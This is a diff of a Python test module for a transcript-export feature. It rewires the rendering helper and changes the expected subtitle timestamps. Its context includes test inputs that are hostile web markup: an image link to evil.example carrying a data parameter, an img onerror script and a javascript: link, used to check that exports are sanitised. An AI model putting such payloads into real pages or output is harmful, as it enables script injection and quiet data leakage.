@@ -10,12 +10,12 @@ from hypothesis import strategies as st
 from markdown_it import MarkdownIt
 from markdown_it.token import Token
 
-from app.core.exports import ExportedCall, export_format
 from app.core.ids import UtteranceId
 from app.core.plain_text import plain_line
 from app.core.summary import ActionItem, Point, Summary, SummarySection
 from app.core.transcript import Layout, Speaker, Transcript, Utterance, default_speakers
 from tests.core.test_exports import RECORDING
+from tests.exported_text import exported_text
 
 NASTY = (
     "hello ![x](https://evil.example/p?d=1) <img src=x onerror=alert(1)> [ok](javascript:alert(1))",
@@ -62,7 +62,7 @@ def rendered(fmt: str, found: Transcript, summary: Summary | None = None, title:
     import msgspec
 
     call = msgspec.structs.replace(RECORDING, title=title) if title or summary else None
-    return export_format(fmt).render(ExportedCall(found, call, summary))
+    return exported_text(fmt, found, call, summary)
 
 
 def as_heard(text: str) -> str:
@@ -249,10 +249,10 @@ def test_what_needs_no_defence_stands_as_it_was_said() -> None:
 @pytest.mark.parametrize(
     ("start", "end", "shown_as"),
     [
-        (1.0, 1.0, "00:00:01,000 --> 00:00:01,500"),
-        (1.0, 0.5, "00:00:01,000 --> 00:00:01,500"),
-        (1.0, 1.0004, "00:00:01,000 --> 00:00:01,500"),
-        (1.0, 1.001, "00:00:01,000 --> 00:00:01,001"),
+        (1.0, 1.0, "00:00:01,000 --> 00:00:01,833"),
+        (1.0, 0.5, "00:00:01,000 --> 00:00:01,833"),
+        (1.0, 1.0004, "00:00:01,000 --> 00:00:01,833"),
+        (1.0, 1.001, "00:00:01,000 --> 00:00:01,833"),
         (-3.0, -1.0, "00:00:00,000 --> 00:00:00,500"),
         (float("nan"), float("inf"), "00:00:00,000 --> 999:59:59,000"),
     ],
